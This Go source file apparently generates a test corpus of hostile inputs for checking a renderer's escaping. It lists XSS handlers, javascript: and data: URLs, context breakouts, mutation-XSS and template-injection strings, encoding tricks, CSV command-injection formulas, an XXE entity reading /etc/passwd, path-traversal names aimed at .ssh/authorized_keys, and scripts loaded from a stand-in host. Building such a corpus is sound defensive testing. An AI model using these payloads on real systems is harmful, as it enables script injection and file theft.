package scorecard

import (
	"fmt"
	"strings"
)

// Mark stands in every payload: what runs it sets a variable of this name, and
// what becomes of its markup bears it.
const Mark = "gjx"

// Payloads are strings that become code where somebody forgets to escape them,
// by class: each is what an author could type. They are our own, made from
// what kinds of mistakes there are, and the same each time.
func Payloads() (list []string) {
	for _, class := range []func() []string{handlers, schemes, breakouts, mutations, Templates, disguises} {
		list = append(list, class()...)
	}
	return list
}

// handlers are elements with event handlers, as loosely written as browsers
// take them.
func handlers() (list []string) {
	forms := []string{
		`<%[1]s %[2]s=gjx=1>`, `<%[1]s/%[2]s="gjx=1">`, "<%[1]s\t%[2]s='gjx=1' x>", "<%[1]s\n%[2]s\n=\ngjx=1\n>", `<%[1]s %[2]s=gjx=1//`,
		`"><%[1]s src=gjx %[2]s=gjx=1>`, `'><%[1]s src=gjx %[2]s=gjx=1>`, `<<%[1]s %[2]s=gjx=1>>`, "<%[1]s x=`gjx` %[2]s=gjx=1>", `<%[1]s src="gjx"%[2]s=gjx=1>`,
	}
	for _, tag := range []string{"img", "svg", "body", "video", "audio", "details open", "input autofocus", "select", "iframe", "object", "marquee", "a", "math", "form", "gjx-x"} {
		for _, event := range []string{"onerror", "onload", "ontoggle", "onfocus", "onpointerover", "onanimationstart", "OnError", "onbegin"} {
			for _, form := range forms {
				list = append(list, fmt.Sprintf(form, tag, event))
			}
		}
	}
	return list
}

// schemes are addresses that run, in every spelling, in every place for one.
func schemes() (list []string) {
	places := []string{
		`<a href="%s">x</a>`, `[x](%s)`, `[x](<%s>)`, `![x](%s)`, `<%s>`, "[x]\n\n[x]: %s", `[[%s]]`, `[甲](%s "题")`, `<form action='%s'><button>`,
		`<iframe src="%s">`, `<svg><a xlink:href="%s"><text>x`, `<object data="%s">`, `<base href="%s">`, `<meta http-equiv=refresh content="0;url=%s">`, `<img srcset="%s 2x">`,
		`%s`,
	}
	for _, address := range []string{
		"javascript:gjx=1", "JaVaScRiPt:gjx=1", " javascript:gjx=1", "java\tscript:gjx=1", "java\nscript:gjx=1", "\x01javascript:gjx=1", "javascript&colon;gjx=1",
		"&#106;avascript:gjx=1", "&#x6A;avascript:gjx=1", "&#0000106avascript:gjx=1", "%6aavascript:gjx=1", "javascript:%67jx=1", "javascript://%0agjx=1",
		"vbscript:gjx=1", "data:text/html,<script>gjx=1</script>", "data:text/html;base64,PHNjcmlwdD5nang9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=gjx=1>",
		"//gjx.example/x.js", "http:gjx", "file:///etc/gjx", "blob:gjx", "view-source:javascript:gjx=1", "feed:javascript:gjx=1", "jav\u00adascript:gjx=1", "ｊavascript:gjx=1",
	} {
		for _, place := range places {
			list = append(list, fmt.Sprintf(place, address))
		}
	}
	return list
}

// breakouts leave what they are put into: attributes, scripts, styles,
// comments, CDATA, JSON, tables of CSV.
func breakouts() (list []string) {
	inside := []string{`<script>gjx=1</script>`, `<script src=//gjx></script>`, `<img src=gjx onerror=gjx=1>`, `<svg/onload=gjx=1>`, `<style>*{background:url(//gjx)}</style>`, `<link rel=stylesheet href=//gjx>`, `<iframe srcdoc="<script>parent.gjx=1</script>">`}
	for _, out := range []string{
		"", `"`, `'`, "`", `">`, `'>`, `"/>`, `</script>`, `</SCRIPT >`, `<!--`, `-->`, `--!>`, `]]>`, `</title>`, `</textarea>`, `</style>`, `</noscript>`, `</template>`, `</xmp>`,
		`\"`, `\'`, `\u0022`, `"}]}`, `"}</script>`, "\u2028", "\u2029", "*/", "//", "\r\n\r\n", "?>", "%>", "<![CDATA[", "</td></tr></table>", "&quot;>", "|", "$$", "```\n", "{#", "\\",
	} {
		for _, x := range inside {
			list = append(list, out+x)
		}
	}
	return append(list, `=gjx()`, `+gjx()`, `-gjx()`, `@gjx`, "\tgjx=1", `=HYPERLINK("http://gjx","x")`, `=cmd|'/c gjx'!A0`, "'=gjx")
}

// mutations change when a browser reads them a second time.
func mutations() []string {
	return []string{
		`<svg><style><img src=gjx onerror=gjx=1></style></svg>`, `<noscript><p title="</noscript><img src=gjx onerror=gjx=1>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=gjx onerror=gjx=1&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=gjx onerror=gjx=1>`, `<svg></p><style><a id="</style><img src=gjx onerror=gjx=1>">`, `<select><template><img src=gjx onerror=gjx=1></template></select>`,
		`<p><svg><desc><b><img src=gjx onerror=gjx=1>`, `<table><a href="javascript:gjx=1"><tr><td>x`, `<option><style></option></select><img src=gjx onerror=gjx=1></style>`, `<svg><animate attributeName=href values=javascript:gjx=1 /><a id=x>x`,
		`<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>gjx=1</script></svg>#x">`, `<svg><foreignObject><body onload=gjx=1>`, `<svg><set attributeName=onmouseover to=gjx=1>`, `<svg><script href=data:,gjx=1 />`,
		`<math><maction actiontype=statusline xlink:href=javascript:gjx=1>x`, `<plaintext>gjx`, `<listing>&lt;img src=gjx onerror=gjx=1&gt;</listing>`, `<image src=gjx onerror=gjx=1>`, `<isindex action=javascript:gjx=1>`, `<keygen autofocus onfocus=gjx=1>`,
	}
}

// Templates are what engines of templates would work out: 7*7777 is 54439.
func Templates() []string {
	return []string{
		`{{ mul 7 7777 }} gjx`, `{{ 7*7777 }} gjx`, `{{< gjx >}}`, `{{% gjx %}}`, `{{</* gjx */>}}`, `{{ define "main" }}gjx{{ end }}`, `{{ template "gjx" }}`, `{{- readFile "config.toml" -}} gjx`,
		`{{ getenv "HOME" }} gjx`, `{{ resources.GetRemote "http://gjx" }}`, `${7*7777} gjx`, `#{7*7777} gjx`, `<%= 7*7777 %> gjx`, `{%% gjx %%}`, `[[${7*7777}]] gjx`, `{{constructor.constructor('gjx=1')()}}`,
		"---\ntitle: gjx\n---", "+++\ntitle = \"gjx\"\n+++", "<!--more--> gjx", "{{< ref \"gjx\" >}}", `{{ printf "%s" (safeHTML "<script>gjx=1</script>") }}`, "HAHAHUGOSHORTCODE gjx HBHB", "HAHAHUGOSHORTCODE1s0HBHB gjx", "HUGOMORE42 gjx", "__hdeferred/d/gjx__d=", "__h_pp_l1_1_gjx_post", "{{ .Site.Params.gjx }}",
	}
}

// disguises are the same in other characters.
func disguises() (list []string) {
	const plain = `<script>gjx=1</script>`
	list = []string{
		strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(plain), strings.NewReplacer("<", "&amp;lt;", ">", "&amp;gt;").Replace(plain), strings.NewReplacer("<", "&#60;", ">", "&#62;").Replace(plain),
		strings.NewReplacer("<", "&#x3c", ">", "&#x3e").Replace(plain), strings.NewReplacer("<", "%3C", ">", "%3E").Replace(plain), strings.NewReplacer("<", `\u003c`, ">", `\u003e`).Replace(plain),
		strings.NewReplacer("<", `\x3c`, ">", `\x3e`).Replace(plain), strings.NewReplacer("<", "＜", ">", "＞").Replace(plain), strings.NewReplacer("<", "‹", ">", "›").Replace(plain), "+ADw-script+AD4-gjx=1+ADw-/script+AD4-",
		"<scr\x00ipt>gjx=1</scr\x00ipt>", "<scr<script>ipt>gjx=1</scr</script>ipt>", "<\u200bscript>gjx=1</script>", "\u202e<tpircs/>1=xjg<tpircs>gjx", "<ſcript>gjx=1</ſcript>", "<script\u00a0>gjx=1</script>", "<script/gjx>gjx=1</script\t\n gjx>",
		"<SCRIPT>gjx=1</SCRIPT>", "<script>gjx=1", "<script", "<!DOCTYPE html><script>gjx=1</script>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY gjx SYSTEM 'file:///etc/passwd'>]><x>&gjx;</x>", strings.Repeat("<b>", 300) + "gjx", strings.Repeat("[", 300) + "gjx",
		strings.Repeat("*", 300) + "gjx", "🧨<script>gjx=1</script>", "é<script>gjx=1</script>", "\u0085<script>gjx=1</script>", "gjx __proto__ constructor", "gjx\u202a\u202b\u2066\u2069", "# gjx", "> gjx", "    gjx", "| gjx |", "1. gjx", "- gjx", "[^1] gjx", "gjx $x$ ~s~ ^t^",
	}
	return list
}

// Paths are names of files that lead out of their folder, or that some system
// reads in its own way.
func Paths() (list []string) {
	for _, up := range []string{
		"../", "..\\", "..//", "./../", ".../", "....//", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "..%c0%af", "..\u2215", "．．/", "..;/", "..\x00/", " ../", "../ ",
		"C:\\", "C:", "\\\\gjx\\share\\", "//gjx/", "/", "~/", "file:///", "\\\\?\\C:\\", "a/../../", "a/./../../", "a//../../",
	} {
		for n := range 7 {
			for _, name := range []string{"gjx.txt", "etc/passwd", "windows/win.ini", "content/system.toml", ".ssh/authorized_keys", "public/index.html"} {
				list = append(list, strings.Repeat(up, n+1)+name, "figures/"+strings.Repeat(up, n+1)+name)
			}
		}
	}
	for _, name := range []string{"CON", "nul.svg", "AUX.png", "com1", "lpt9.svg", "a.", "a ", "a:b", "a?b", "a*b", "a|b", "a\"b", "a<b", "a\nb.svg", "a\x7fb.svg", "\u202egvs.a", ".", "..", ""} {
		list = append(list, name, "figures/"+name)
	}
	return list
}
